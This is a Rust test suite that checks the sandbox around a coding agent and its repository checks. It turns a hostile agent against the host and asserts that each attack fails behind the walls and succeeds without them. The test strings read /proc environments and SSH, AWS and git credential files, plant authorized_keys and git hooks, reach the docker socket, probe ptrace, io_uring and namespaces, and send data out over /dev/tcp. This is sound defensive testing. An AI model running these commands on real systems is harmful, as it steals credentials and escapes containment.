//! The agent is turned against the machine it runs on. Each attack is made twice: behind the walls,
//! where it gets nothing, and without them, where it gets what it is after; so that one which fails
//! for another reason is noticed.

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use serde_json::json;

use crate::world::scene::{CANARY, COVER, Scene, check_read, ear};
use crate::world::{TOKEN, World};

/// The scenes listen for a secret in these places. One that is told in all of them is heard in all.
#[tokio::test(flavor = "multi_thread")]
async fn what_comes_out_is_found_wherever_it_does() {
    let mut scene = Scene::of(World::new().await, &format!("Add a greeting to {CANARY}")).await;
    scene.world.agent(&format!("echo {CANARY} > hello.txt; echo test > hello_test.txt"));
    let ran = scene.world.work().await;
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let everywhere =
        ["its log", "its files", "its repository", "a request", "the forge's repository"];
    assert_eq!(scene.places_with(CANARY, &ran), everywhere);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_worker_is_not_seen() {
    check_read(|_| "cat /proc/*/environ > \"$LOOT\" 2>/dev/null".to_owned(), TOKEN).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_agent_holds_no_secret() {
    for passed in [true, false] {
        let mut scene = Scene::new(true).await;
        scene.world.agent(&format!("env >> '{}'; {COVER}", scene.loot_file().display()));
        if passed {
            scene.world.set("agent", json!({ "pass_environment": ["MODEL_KEY"] }));
        }
        let environment = [
            ("GITHUB_TOKEN", TOKEN),
            ("MODEL_KEY", CANARY),
            ("AWS_SECRET_ACCESS_KEY", "of-the-worker"),
        ];
        let ran = scene.world.run_with(&["worker", "--once"], &environment).await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        scene.check_kept(&ran);
        let loot = scene.loot();
        assert_eq!(loot.contains(CANARY), passed, "{loot}");
        assert!(loot.contains("PATH="), "{loot}");
        for kept in [TOKEN, "GITHUB", "AWS", "of-the-worker"] {
            assert!(!loot.contains(kept), "{kept} is in {loot}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_in_the_home_directory_are_not_read() {
    let files = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".netrc",
        ".git-credentials",
        ".cargo/credentials.toml",
    ];
    let prepare = |scene: &mut Scene| {
        let home = scene.world.path().to_path_buf();
        for file in files {
            let file = home.join(file);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, CANARY).unwrap();
        }
        format!("cd '{}'; cat {} > \"$LOOT\"", home.display(), files.join(" "))
    };
    check_read(prepare, CANARY).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_workers_own_files_are_not_read() {
    let prepare = |scene: &mut Scene| {
        let data = scene.world.data_dir();
        std::fs::create_dir_all(data.join("repositories/owner/secret.git")).unwrap();
        std::fs::write(data.join("repositories/owner/secret.git/config"), CANARY).unwrap();
        format!("grep -rhs {CANARY} '{}' / --include=config > \"$LOOT\"", data.display())
    };
    // Without walls the search of the whole disk would take long, and the first directory is
    // enough.
    check_read(|scene| prepare(scene).replace(" / ", " "), CANARY).await;
}

/// Wherever an agent may look: its tree with all of git's files, its home, its temporary files, the
/// system's settings.
#[tokio::test(flavor = "multi_thread")]
async fn the_token_lies_in_no_file_that_is_found() {
    let prepare = |scene: &mut Scene| {
        // Not the token as it is, or the search would find itself.
        let pattern = format!("{}[{}]", &TOKEN[..TOKEN.len() - 1], &TOKEN[TOKEN.len() - 1..]);
        let places = "\"$PWD\" \"$HOME\" \"$TMPDIR\" /etc /tmp /run /var";
        format!("grep -rahs '{pattern}' {places} '{}' > \"$LOOT\"", scene.world.path().display())
    };
    // Without walls the forge's own files are at hand, which are on this machine here.
    check_read(prepare, TOKEN).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_the_worker_was_started_with_is_not_handed_on() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let secret = scene.world.path().join("secret");
        std::fs::write(&secret, CANARY).unwrap();
        scene.world.agent(&format!("cat <&7 >> '{}'\n{COVER}", scene.loot_file().display()));
        let worker = scene.world.command(&["worker", "--once"]);
        let mut shell = tokio::process::Command::new("/bin/sh");
        shell
            .args(["-c", "exec 7< \"$0\"; exec \"$@\""])
            .arg(&secret)
            .arg(worker.as_std().get_program());
        shell.args(worker.as_std().get_args()).env_clear().env("GITHUB_TOKEN", TOKEN);
        shell.envs(worker.as_std().get_envs().filter_map(|(name, value)| Some((name, value?))));
        let ran = shell.stdin(Stdio::null()).output().await.unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
        assert_eq!(scene.loot().contains(CANARY), !walls);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_outside_the_workspace_is_written() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let home = scene.world.path().to_path_buf();
        let hooks = scene.world.data_dir().join("repositories/owner/repo.git/hooks");
        let mut script = String::new();
        let marks = [
            home.join(".profile"),
            home.join(".ssh/authorized_keys"),
            hooks.join("pre-push"),
            PathBuf::from("../../mark"),
        ];
        for mark in &marks {
            let directory = mark.parent().unwrap().display();
            script.push_str(&format!(
                "mkdir -p '{directory}'; echo {CANARY} > '{}'\n",
                mark.display()
            ));
        }
        scene.attack(&script).await;
        for mark in marks.iter().filter(|mark| mark.is_absolute()) {
            assert_eq!(mark.exists(), !walls, "{}", mark.display());
        }
        assert_eq!(home.join("worker/runs/1/mark").exists(), !walls);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sockets_of_docker_ssh_agent_and_the_desktop_are_not_reached() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let name = format!("{CANARY}-{walls}-{}", std::process::id());
        let _desktop =
            UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let docker = scene.world.path().join("docker.sock");
        let _docker = UnixListener::bind(&docker).unwrap();
        let script = format!(
            "python3 -c \"import socket\nfor name in ['{}', chr(0) + '{name}']:\n  try: socket.socket(socket.AF_UNIX).connect(name); print('reached')\n  except OSError: print('closed')\" > \"$LOOT\"",
            docker.display()
        );
        scene.attack(&script).await;
        assert_eq!(scene.loot(), if walls { "closed\nclosed\n" } else { "reached\nreached\n" });
    }
}

/// Each of these system calls is refused behind the walls as if there were no right to it; without
/// them it is not refused, or for another reason.
#[tokio::test(flavor = "multi_thread")]
async fn the_kernels_rarer_doors_are_shut() {
    const CALLS: &str = r#"
import ctypes, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(*arguments)
    print(name, 'refused' if result == -1 and ctypes.get_errno() == 1 else 'passed')
x86 = platform.machine() == 'x86_64'
call('ptrace', 101 if x86 else 117, 0, 0, 0, 0)
call('io_uring', 425, 0, 0)
call('tiocsti', 16 if x86 else 29, 0, 0x5412, b'x')
call('keyctl', 250 if x86 else 219, 0, -3, 0)
try: socket.socket(40, socket.SOCK_STREAM); print('vsock passed')
except OSError as error: print('vsock', 'refused' if error.errno == 1 else 'passed')
try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); print('netfilter passed')
except OSError as error: print('netfilter', 'refused' if error.errno == 1 else 'passed')
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
try: os.memfd_create('x'); print('memfd passed')
except OSError as error: print('memfd', 'refused' if error.errno == 38 else 'passed')
pid = os.fork()
if pid == 0:
    call('namespace', 272 if x86 else 97, 0x10000000)
    os._exit(0)
os.waitpid(pid, 0)
"#;
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let file = scene.world.stage().join("calls.py");
        std::fs::write(&file, CALLS).unwrap();
        scene.attack(&format!("python3 -u '{}' > \"$LOOT\"", file.display())).await;
        let loot = scene.loot();
        assert_eq!(loot.lines().count(), 8, "{loot}");
        let refused = loot.lines().filter(|line| line.ends_with("refused")).count();
        if walls {
            assert_eq!(refused, 8, "{loot}");
        } else {
            assert!(refused <= 1, "a container may refuse one of them itself: {loot}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_namespace_in_the_sandbox_is_not_made_by_a_tool_either() {
    check_read(|_| format!("unshare --user --map-root-user echo {CANARY} > \"$LOOT\""), CANARY)
        .await;
}

/// A check is the repository's own program, and may be as hostile as an agent.
#[tokio::test(flavor = "multi_thread")]
async fn a_check_is_behind_the_same_walls() {
    for walls in [false, true] {
        let mut world = World::without_repository().await;
        if !walls {
            world.without_sandbox();
        }
        let loot = world.stage().join("loot");
        let (port, heard) = ear();
        let secret = world.path().join(".netrc");
        std::fs::write(&secret, CANARY).unwrap();
        let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\nsetup = \"\"\n";
        let settings = format!("[checks]\n{nothing}test = \"sh check.sh\"\n");
        let check = format!(
            "cat /proc/*/environ '{}' > '{}' 2>/dev/null; bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{port}' 2>/dev/null; true\n",
            secret.display(),
            loot.display()
        );
        world.forge.repository(
            "owner/repo",
            "main",
            &[(".codingworker.toml", &settings), ("check.sh", &check)],
        );
        world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        let loot = read(&loot);
        assert_eq!((loot.contains(TOKEN), loot.contains(CANARY)), (!walls, !walls), "{loot}");
        assert_eq!(heard.recv_timeout(Duration::from_millis(500)).is_ok(), !walls);
        world.finish();
    }
}

/// What a repository's tools download could be a library that another's build links.
#[tokio::test(flavor = "multi_thread")]
async fn downloads_of_one_repository_are_not_seen_by_another() {
    let mut world = World::without_repository().await;
    let loot = world.stage().join("loot");
    let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\nsetup = \"\"\n";
    let settings = format!("[checks]\n{nothing}test = \"sh check.sh\"\n");
    let leave = format!("mkdir -p $CARGO_HOME; echo {CANARY} > $CARGO_HOME/library\n");
    // Its own cache, and whatever lies around it.
    let look = format!(
        "cat $CARGO_HOME/library $CARGO_HOME/../../*/*/library >> '{}' 2>/dev/null; true\n",
        loot.display()
    );
    for (name, check) in [("owner/repo", format!("{leave}{look}")), ("owner/other", look.clone())] {
        world.forge.repository(
            name,
            "main",
            &[(".codingworker.toml", settings.as_str()), ("check.sh", check.as_str())],
        );
    }
    world.task("Add a greeting", "").await;
    assert_eq!(world.work().await.code, Some(0));
    assert!(read(&loot).contains(CANARY), "a repository finds its own");
    std::fs::remove_file(&loot).unwrap();
    world.set("repositories", json!(["owner/other"]));
    let issue = json!({ "title": "Add a greeting", "body": "", "labels": ["ai-task"] });
    world.forge.ask(reqwest::Method::POST, "/repos/owner/other/issues", issue).await;
    assert_eq!(world.run(&["submit", "--issue", "owner/other#1"]).await.code, Some(0));
    assert_eq!(world.work().await.code, Some(0));
    assert_eq!(read(&loot), "");
}

fn read(path: &Path) -> String {
    String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
}
